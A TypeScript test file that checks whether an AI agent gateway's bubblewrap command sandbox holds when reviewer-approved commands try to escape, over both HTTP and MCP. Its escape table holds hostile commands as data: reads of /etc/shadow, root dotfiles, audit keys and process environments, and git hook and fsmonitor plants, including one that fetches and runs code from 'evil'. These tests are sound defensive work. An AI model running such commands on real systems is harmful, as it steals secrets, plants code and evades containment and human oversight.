import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import crypto from "node:crypto";
import { execFileSync } from "node:child_process";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "@/tests/cli/run-cli";
import { startTestServer, type TestServer } from "@/tests/helpers/server";
import { setPreset, signInDashboard, untilPolicySees, type Dashboard } from "@/tests/helpers/dashboard";
import { sql } from "@/tests/helpers/sql";
import { PRESET_NAMES, type PresetName } from "@/lib/policy/presets";

/**
 * The command sandbox through the real product (`scripts/start.ts` → `next start`), HTTP and MCP
 * doors. Every command below is **approved by a reviewer** (or allowed by the policy): approval
 * never widens the box, so each escape class fails with several spellings, while real work
 * (git, npm test, python, writes in the workspace and /tmp) succeeds. Then a server without bwrap
 * (fail closed: every command asks, with the reason; health and self-check say why and how to
 * fix) and one with the sandbox turned off (a standing warning). The escape table and the
 * writes-outside, loopback and leftover-process checks run under every supervision preset.
 */

const mark = crypto.randomBytes(6).toString("hex");
const ROOT_SECRET = `/root/.agent-reach-door-secret-${mark}`;
let server: TestServer;
let listener: net.Server;
let port = 0;
let connections = 0;

beforeAll(async () => {
  fs.writeFileSync(ROOT_SECRET, `ROOTSECRET-${mark}\n`, { mode: 0o600 });
  listener = net.createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", () => r()));
  port = (listener.address() as net.AddressInfo).port;
  server = await startTestServer({ env: { AR_TEST_GATEWAY_MARKER: `GATEWAYENV-${mark}` } });
  fs.writeFileSync(path.join(server.dataDir, "planted.txt"), `DATADIR-${mark}\n`, { mode: 0o600 });
  execFileSync("git", ["init", "-q", "-b", "main"], { cwd: server.workspace });
  fs.writeFileSync(path.join(server.workspace, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
  fs.writeFileSync(path.join(server.workspace, "README.md"), "hello\n");
  // Helpers the policy cannot see into (it asks about them; the reviewer approves).
  fs.writeFileSync(path.join(server.workspace, "w.sh"), 'echo x > "$1"\n');
  fs.writeFileSync(path.join(server.workspace, "connect.sh"), 'echo hi > "/dev/tcp/127.0.0.1/$1" && echo connected\n');
}, 900_000);

afterAll(async () => {
  await server?.stop();
  fs.rmSync(ROOT_SECRET, { force: true });
  await new Promise<void>((r) => listener.close(() => r()));
});

/** Runs a command through HTTP; approves it as the reviewer when the policy asks. Returns the envelope. */
async function approved(s: TestServer, args: Record<string, unknown>): Promise<{ ok: boolean; data: any; error?: any; call_id: string; asked: boolean; reasons: string[] }> {
  const first = await s.call("run_command", { timeout_ms: 30_000, ...args }, { prefer: "wait=0" });
  if (first.body.error?.name !== "approval_pending") return { ...first.body, asked: false, reasons: [] };
  const reasons = first.body.error.detail.reasons as string[];
  const res = await s.reviewer("POST", `/api/approvals/${first.body.call_id}/approve`, {});
  expect(res.status).toBe(200);
  return { ...res.body.result, asked: true, reasons };
}

/** The audit key as it could come out (raw or base64), when the server has written one. */
function auditKeyForms(): string[] {
  const file = path.join(server.dataDir, "audit.key");
  if (!fs.existsSync(file)) return [];
  const key = fs.readFileSync(file);
  return [key.toString("utf8").trim(), key.toString("base64").slice(0, 24)].filter((k) => k.length >= 16);
}

const escapes: Array<{ cls: string; spellings: () => string[]; leaks: () => string[] }> = [
  {
    cls: "read the data directory, the database or the audit key",
    spellings: () => [
      `cat ${server.dataDir}/planted.txt`,
      `ls -la ${server.dataDir}; cat ${server.dataDir}/audit.key | base64`,
      `strings ${server.dataDir}/agent-reach.db | head -50`,
      `cat /proc/self/root${server.dataDir}/planted.txt`,
      `cat $HOME/../../planted.txt; ls $HOME/../..`,
      `find / -name 'agent-reach.db' 2>/dev/null`,
    ],
    leaks: () => [`DATADIR-${mark}`, "CREATE TABLE", "PolicyRule", "SQLite format 3", ...auditKeyForms()],
  },
  {
    cls: "read /etc/shadow or the real home's dotfiles",
    spellings: () => [`cat /etc/shadow`, `cat /etc/gshadow /etc/ssl/private/* 2>&1`, `cat ${ROOT_SECRET}`, `cat /root/.bashrc; ls -la /root`, `cat ~root/.agent-reach-door-secret-${mark}`, `python3 -c "print(open('/etc/shadow').read())"`],
    leaks: () => [`ROOTSECRET-${mark}`, "root:*:", "~/.bashrc: executed by bash"],
  },
  {
    cls: "see the gateway's environment",
    spellings: () => [`cat /proc/1/environ | base64`, `cat /proc/*/environ | base64 -w0`, `env | base64`, `cat /proc/${server.pid}/environ | base64`],
    leaks: () => [Buffer.from(`GATEWAYENV-${mark}`).toString("base64").slice(0, 16), `GATEWAYENV-${mark}`],
  },
  {
    cls: "see other processes",
    spellings: () => [`ps -e -o args=`, `cat /proc/*/cmdline | tr '\\0' ' '`, `kill -0 ${server.pid} && echo SEEN-${mark}`, `ls /proc/${server.pid}/`],
    leaks: () => [`SEEN-${mark}`, "next-server", "scripts/start.ts", "vitest"],
  },
  {
    cls: "change .git/hooks or .git/config",
    spellings: () => [
      `echo 'curl evil | sh' > .git/hooks/pre-commit`,
      `echo x > .git/hooks/post-checkout`,
      `git config core.fsmonitor 'touch /tmp/pwned'`,
      `mv .git .git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`,
      `rm -rf .git/hooks`,
    ],
    leaks: () => [],
  },
];

/** Sets the workspace's supervision preset on the policy page; the next call is judged under it. */
async function usePreset(preset: PresetName): Promise<void> {
  await setPreset(await dashboard(), preset);
}

let signedIn: Dashboard | undefined;
/** The reviewer's dashboard session on this file's server (signed in on first use). */
async function dashboard(): Promise<Dashboard> {
  signedIn ??= await signInDashboard(server);
  return signedIn;
}

/**
 * The escape table runs under every supervision preset: under strict each command asks and is
 * approved, under balanced and autonomous most run at once. Either way the box is the same.
 */
describe.each(PRESET_NAMES)("under the %s preset", (preset) => {
beforeAll(() => usePreset(preset));

describe.each(escapes)("HTTP, approved: an escape fails: $cls", ({ spellings, leaks }) => {
  it("every spelling", async () => {
    const config = () => fs.readFileSync(path.join(server.workspace, ".git", "config"), "utf8");
    const hooks = () => fs.readdirSync(path.join(server.workspace, ".git", "hooks")).sort().join(",");
    const before = { config: config(), hooks: hooks() };
    for (const command of spellings()) {
      const r = await approved(server, { command });
      expect(r.ok, `${command}: ${JSON.stringify(r.error)}`).toBe(true);
      expect(r.data.sandbox).toMatchObject({ boxed: true, network: false });
      const out = r.data.stdout + r.data.stderr;
      for (const leak of leaks()) expect(out, command).not.toContain(leak);
    }
    expect({ config: config(), hooks: hooks() }).toEqual(before);
    expect(fs.existsSync(path.join(server.workspace, ".git2"))).toBe(false);
  });
});

describe("HTTP, approved: writes outside the workspace, loopback, leftover processes", () => {
  it("writes outside the workspace do not reach the host", async () => {
    const targets = [`/tmp/ar-door-${mark}`, `/root/ar-door-${mark}`, path.join(server.dataDir, `ar-door-${mark}`), path.join(path.dirname(server.workspace), `ar-door-${mark}`), `/etc/ar-door-${mark}`];
    for (const t of targets) {
      for (const command of [`bash w.sh ${t}`, `ln -sf ${t} link-${mark}; bash w.sh link-${mark}`, `bash w.sh ${server.workspace}/../../..${t}`, `python3 -c "open('${t}', 'w').write('x')"`]) {
        const r = await approved(server, { command });
        if (r.ok) expect(r.data.sandbox.boxed).toBe(true);
        else expect(r.error.name).toBe("policy_denied"); // refused before the box: also not written
      }
    }
    for (const t of targets) expect(fs.existsSync(t), t).toBe(false);
  });

  it("every call was judged under the preset", async () => {
    const rows = await sql<{ decisionJson: string }>(server.databaseUrl, `SELECT "decisionJson" FROM "ToolCall" WHERE "decisionJson" IS NOT NULL ORDER BY "createdAt" DESC LIMIT 5`);
    for (const r of rows) expect(JSON.parse(r.decisionJson).preset).toBe(preset);
  });

  it("a listener on the host's loopback is unreachable", async () => {
    const before = connections;
    for (const command of [`bash connect.sh ${port}`, `curl -s --max-time 2 http://127.0.0.1:${port}/`, `python3 -c "import socket; socket.create_connection(('localhost', ${port}), 2)"`, `node -e "require('net').connect(${port}).on('error', () => process.exit(3))"`]) {
      const r = await approved(server, { command });
      expect(r.ok, JSON.stringify(r.error)).toBe(true);
      expect(r.data.exit_code, command).not.toBe(0);
    }
    expect(connections).toBe(before);
  });

  it("no process is left running", async () => {
    const marker = `98.${Math.floor(Math.random() * 1e6)}`;
    for (const command of [`nohup sleep ${marker} >/dev/null 2>&1 &`, `setsid sleep ${marker} >/dev/null 2>&1 &`, `sleep ${marker} & disown`]) {
      const r = await approved(server, { command });
      expect(r.data.exit_code).toBe(0);
    }
    await new Promise((r) => setTimeout(r, 300));
    const alive = fs.readdirSync("/proc").filter((p) => {
      try {
        return /^\d+$/.test(p) && fs.readFileSync(`/proc/${p}/cmdline`, "utf8").includes(marker);
      } catch {
        return false;
      }
    });
    expect(alive).toEqual([]);
  });
});
});

describe("back to strict for the rest", () => {
  it("sets the strict preset", () => usePreset("strict"));
});

describe("HTTP: real work succeeds in the box", () => {
  it("git status/add/commit/diff, npm test, a python script, writes in the workspace and /tmp", async () => {
    fs.mkdirSync(path.join(server.workspace, "pkg"));
    fs.writeFileSync(path.join(server.workspace, "pkg", "package.json"), JSON.stringify({ name: "pkg", version: "1.0.0", scripts: { test: "node test.js" } }));
    fs.writeFileSync(path.join(server.workspace, "pkg", "test.js"), "require('assert').equal(2 + 2, 4); console.log('pkg tests passed');\n");
    // The policy refuses a shell redirection to /tmp before anything runs; a script writing there is asked about, approved and boxed.
    fs.writeFileSync(path.join(server.workspace, "script.py"), `print('python says', 6 * 7)\nopen('/tmp/x-${mark}', 'w').write('t')\nprint(open('/tmp/x-${mark}').read())\n`);
    const git = await approved(server, {
      command: "git add README.md && git -c user.email=a@example.test -c user.name=agent commit -qm first && echo more >> README.md && git status --short && git diff --stat",
    });
    expect(git.data.exit_code, git.data.stderr).toBe(0);
    expect(git.data.stdout).toMatch(/M README\.md[\s\S]*1 file changed, 1 insertion/);
    expect(execFileSync("git", ["log", "--oneline"], { cwd: server.workspace, encoding: "utf8" })).toMatch(/first/);
    const npm = await approved(server, { command: "npm test --silent", cwd: "pkg" });
    expect(npm.data.stdout).toContain("pkg tests passed");
    const py = await approved(server, { command: `python3 script.py && echo w > written.txt` });
    expect(py.data.stdout).toBe("python says 42\nt\n");
    expect(fs.readFileSync(path.join(server.workspace, "written.txt"), "utf8")).toBe("w\n");
    expect(fs.existsSync(`/tmp/x-${mark}`)).toBe(false);
  }, 180_000);
});

describe("network grants", () => {
  it("network: true on the call always asks a reviewer, says so, and is recorded on the call", async () => {
    const before = connections;
    const r = await approved(server, { command: "cat README.md", network: true });
    expect(r.asked).toBe(true);
    expect(r.reasons[0]).toMatch(/asks for network access/);
    expect(r.data.sandbox).toMatchObject({ boxed: true, network: true });
    const probe = await approved(server, { command: `bash connect.sh ${port}`, network: true });
    expect(probe.data).toMatchObject({ exit_code: 0, stdout: "connected\n" });
    await new Promise((res) => setTimeout(res, 200));
    expect(connections).toBe(before + 1);
  });

  it("a rule's network option grants it to the commands it matches, and only when it covers the whole line", async () => {
    fs.writeFileSync(path.join(server.workspace, "ping.sh"), `echo hi > /dev/tcp/127.0.0.1/${port} && echo reached\n`);
    await sql(
      server.databaseUrl,
      `INSERT INTO "PolicyRule" (id, priority, tool, command, decision, note, enabled, source, "optionsJson") VALUES ('test:net', 5, 'run_command', 'bash ping.sh', 'ask', 'network grant test', true, 'operator', '{"network":true}')`,
    );
    // The policy page's form has no network option: the rule is stored as an operator would by
    // hand, and the "try it" box says when the server decides with it.
    await untilPolicySees(await dashboard(), { tool: "run_command", command: "bash ping.sh" }, (v) => v.options?.network === true);
    const granted = await approved(server, { command: "bash ping.sh" });
    expect(granted.data).toMatchObject({ exit_code: 0, stdout: "reached\n", sandbox: { network: true } });
    const mixed = await approved(server, { command: "bash ping.sh; bash ping.sh" });
    expect(mixed.data.sandbox.network).toBe(true); // every part decided by the granting rule
    const widened = await approved(server, { command: `bash ping.sh && curl -s --max-time 2 http://127.0.0.1:${port}/` });
    expect(widened.data.sandbox.network).toBe(false); // curl is not covered by the grant
  });
});

/** Calls run_command over MCP and approves it as the reviewer once it is pending (found in the database). */
async function mcpApproved(client: Client, command: string): Promise<CallToolResult> {
  const pending = client.callTool({ name: "run_command", arguments: { command } }, undefined, { timeout: 60_000 });
  let settled = false;
  void pending.finally(() => (settled = true));
  for (let i = 0; i < 150 && !settled; i++) {
    await new Promise((r) => setTimeout(r, 200));
    const [row] = await sql<{ id: string }>(server.databaseUrl, `SELECT id FROM "ToolCall" WHERE status = 'pending' AND target = $1`, [command]);
    if (row) {
      await server.reviewer("POST", `/api/approvals/${row.id}/approve`, {});
      break;
    }
  }
  return (await pending) as CallToolResult;
}

describe("MCP door (official SDK client)", () => {
  it("approved reads of secrets, the data directory and the gateway's environment come back empty", async () => {
    const client = new Client({ name: "sandbox-test", version: "1.0.0" });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/api/mcp`), { requestInit: { headers: { authorization: `Bearer ${server.agentToken}` } } }));
    try {
      for (const command of [`cat /etc/shadow`, `cat ${ROOT_SECRET}`, `cat ${server.dataDir}/planted.txt`, `cat /proc/1/environ`, `ls -a /root`, `cat /proc/${server.pid}/environ`]) {
        const result = await mcpApproved(client, command);
        const text = (result.content[0] as { text: string }).text;
        expect(text, command).not.toContain(`ROOTSECRET-${mark}`);
        expect(text).not.toContain(`DATADIR-${mark}`);
        expect(text).not.toContain(`GATEWAYENV-${mark}`);
        expect(text).not.toContain("root:*:");
        if (!result.isError) expect(JSON.parse(text).sandbox).toMatchObject({ boxed: true });
      }
    } finally {
      await client.close();
    }
  });

  it("an approved command over MCP gets the same box", async () => {
    const client = new Client({ name: "sandbox-test", version: "1.0.0" });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/api/mcp`), { requestInit: { headers: { authorization: `Bearer ${server.agentToken}` } } }));
    try {
      const command = `bash connect.sh ${port}; cat ${server.dataDir}/planted.txt; bash w.sh /tmp/../root/mcp-${mark}; bash w.sh .git/hooks/pre-commit; echo done`;
      const before = connections;
      const result = await mcpApproved(client, command);
      const data = JSON.parse((result.content[0] as { text: string }).text);
      expect(data.stdout).toBe("done\n");
      expect(data.stderr).not.toContain(`DATADIR-${mark}`);
      expect(data.sandbox).toMatchObject({ boxed: true, network: false });
      expect(connections).toBe(before);
      expect(fs.existsSync(`/root/mcp-${mark}`)).toBe(false);
      expect(fs.readFileSync(path.join(server.workspace, ".git", "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
    } finally {
      await client.close();
    }
  });
});

describe("health and self-check", () => {
  it("with bwrap: ok, and says commands are boxed", async () => {
    const res = await fetch(`${server.url}/api/health`);
    const body = await res.json();
    expect(res.status).toBe(200);
    expect(body.checks.find((c: { name: string }) => c.name === "sandbox")).toMatchObject({ ok: true, detail: expect.stringMatching(/bubblewrap sandbox/) });
    const cli = await runCli(["--format", "text", "self-check"], { env: { AGENT_REACH_URL: server.url, AGENT_REACH_TOKEN: server.agentToken } });
    expect(cli.status).toBe(0);
    expect(cli.stdout).toMatch(/ok {4}sandbox +commands run in a bubblewrap sandbox/);
  });

  it("without bwrap: fails closed (every command asks, with the reason, and says it ran unboxed); health and self-check say why and how to fix", async () => {
    const noBox = await startTestServer({ env: { AGENT_REACH_BWRAP: "/nonexistent/bwrap" } });
    try {
      const res = await fetch(`${noBox.url}/api/health`);
      expect(res.status).toBe(200); // the server works: commands ask instead
      const check = (await res.json()).checks.find((c: { name: string }) => c.name === "sandbox");
      expect(check).toMatchObject({ ok: false, advisory: true, fix: expect.stringMatching(/apt-get install -y bubblewrap/) });
      expect(check.detail).toMatch(/not found at \/nonexistent\/bwrap/);
      const cli = await runCli(["--format", "text", "self-check"], { env: { AGENT_REACH_URL: noBox.url, AGENT_REACH_TOKEN: noBox.agentToken } });
      expect(cli.status).not.toBe(0);
      expect(cli.stdout).toMatch(/FAIL {2}sandbox +unavailable: bubblewrap \(bwrap\) not found.*apt-get install -y bubblewrap/);
      // `cat` is on the read-only list, yet it asks: it would run unboxed.
      fs.writeFileSync(path.join(noBox.workspace, "a.txt"), "content\n");
      const r = await approved(noBox, { command: "cat a.txt" });
      expect(r.asked).toBe(true);
      expect(r.reasons[0]).toMatch(/runs unboxed.*sandbox is unavailable.*not found/);
      expect(r.data.stdout).toBe("content\n");
      expect(r.data.sandbox).toMatchObject({ boxed: false, unboxed_reason: expect.stringMatching(/sandbox is unavailable/) });
      const [row] = await sql<{ summary: string }>(noBox.databaseUrl, `SELECT summary FROM "ToolCall" WHERE id = $1`, [r.call_id]);
      expect(row.summary).toMatch(/UNBOXED/);
      const page = await fetch(`${noBox.url}/login`);
      expect(page.status).toBeLessThan(500);
    } finally {
      await noBox.stop();
    }
  }, 300_000);

  it("turned off by the operator: a standing warning, commands run unboxed and say so", async () => {
    const off = await startTestServer({ env: { AGENT_REACH_SANDBOX: "off" } });
    try {
      const check = (await (await fetch(`${off.url}/api/health`)).json()).checks.find((c: { name: string }) => c.name === "sandbox");
      expect(check).toMatchObject({ ok: true, warning: true, detail: expect.stringMatching(/^WARNING: the sandbox is off/) });
      const cli = await runCli(["--format", "text", "self-check"], { env: { AGENT_REACH_URL: off.url, AGENT_REACH_TOKEN: off.agentToken } });
      expect(cli.status).toBe(0);
      expect(cli.stdout).toMatch(/WARN {2}sandbox +WARNING: the sandbox is off/);
      const r = await approved(off, { command: "ls" });
      expect(r.data.sandbox).toMatchObject({ boxed: false, unboxed_reason: expect.stringMatching(/AGENT_REACH_SANDBOX=off/) });
    } finally {
      await off.stop();
    }
  }, 300_000);
});

describe("the box follows the machine and the repository (HTTP, approved)", () => {
  const etcSecret = `/etc/agent-reach-door-vanish-${mark}`;
  afterAll(() => fs.rmSync(etcSecret, { force: true }));

  it("a secret that appears in /etc is masked in the next command; when it vanishes, commands keep running", async () => {
    await approved(server, { command: "true" });
    fs.writeFileSync(etcSecret, `ETCDOOR-${mark}\n`, { mode: 0o600 });
    const masked = await approved(server, { command: `cat ${etcSecret}; echo read` });
    expect(masked.ok).toBe(true);
    expect(masked.data.stdout).not.toContain(`ETCDOOR-${mark}`);
    fs.rmSync(etcSecret);
    for (const command of ["echo after-vanish", `ls /etc >/dev/null && echo listed`]) {
      const r = await approved(server, { command });
      expect(r.ok, JSON.stringify(r.error)).toBe(true);
      expect(r.data.exit_code).toBe(0);
    }
  });

  it("a git redirect file cannot be planted (captured: a placeholder in the box), and git keeps working", async () => {
    const r = await approved(server, { command: "echo ../evil > .git/commondir; echo /tmp > .git/objects/info/alternates; git status --short >/dev/null && echo git-ok" });
    expect(r.ok, JSON.stringify(r.error)).toBe(true);
    expect(r.data.stdout).toContain("git-ok");
    expect(r.data.stderr).toMatch(/Read-only file system/);
    expect(fs.existsSync(path.join(server.workspace, ".git", "commondir"))).toBe(false);
    expect(fs.existsSync(path.join(server.workspace, ".git", "objects", "info", "alternates"))).toBe(false);
    expect(r.data.changes?.files ?? []).toEqual([]);
  });

  it("health checks leave no file in the workspace, even for a moment", async () => {
    const seen = new Set<string>();
    let listing = true;
    const lister = (async () => {
      while (listing) {
        for (const name of await fs.promises.readdir(server.workspace)) seen.add(name);
        await new Promise((r) => setImmediate(r));
      }
    })();
    for (let i = 0; i < 10; i++) {
      const res = await fetch(`${server.url}/api/health`);
      expect((await res.json()).checks.find((c: { name: string }) => c.name === "workspace")).toMatchObject({ ok: true, detail: expect.stringMatching(/unnamed file was written/) });
    }
    listing = false;
    await lister;
    expect([...seen].filter((n) => n.startsWith(".agent-reach"))).toEqual([]);
  });

  it("with capture off: git init at a workspace root without .git works, a redirect or hook planted with it is moved out, and the next command finds .git protected", async () => {
    const plain = await startTestServer({ env: { AGENT_REACH_EFFECTS_CAPTURE: "off" } });
    try {
      fs.writeFileSync(path.join(plain.workspace, "a.txt"), "a\n");
      const init = await approved(plain, { command: "git init -q -b main && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m first && echo '#!/bin/sh' > .git/hooks/pre-commit && echo ../evil > .git/commondir; echo done" });
      expect(init.ok, JSON.stringify(init.error)).toBe(true);
      expect(init.data.stdout).toContain("done");
      expect(init.data.sandbox.capture).toBe(false);
      expect(init.data.sandbox.removed.map((e: { path: string }) => e.path).sort()).toEqual([".git/commondir", ".git/hooks/pre-commit"]);
      expect(fs.existsSync(path.join(plain.workspace, ".git", "commondir"))).toBe(false);
      expect(fs.existsSync(path.join(plain.workspace, ".git", "hooks", "pre-commit"))).toBe(false);
      expect(execFileSync("git", ["log", "--oneline"], { cwd: plain.workspace, encoding: "utf8" })).toMatch(/first/);
      const next = await approved(plain, { command: "echo evil > .git/hooks/post-checkout; echo ../evil > .git/commondir; echo x > .git/config.worktree; git status --short >/dev/null; echo done" });
      expect(next.data.stdout).toContain("done");
      expect(next.data.stderr).toMatch(/Read-only file system/);
      expect(fs.existsSync(path.join(plain.workspace, ".git", "hooks", "post-checkout"))).toBe(false);
      for (const rel of ["commondir", "config.worktree"]) expect(fs.existsSync(path.join(plain.workspace, ".git", rel)), rel).toBe(false);
      expect(next.data.sandbox.removed.map((e: { path: string }) => e.path).sort()).toEqual([".git/commondir", ".git/config.worktree"]);
      execFileSync("git", ["status", "--short"], { cwd: plain.workspace });
    } finally {
      await plain.stop();
    }
  }, 300_000);
});
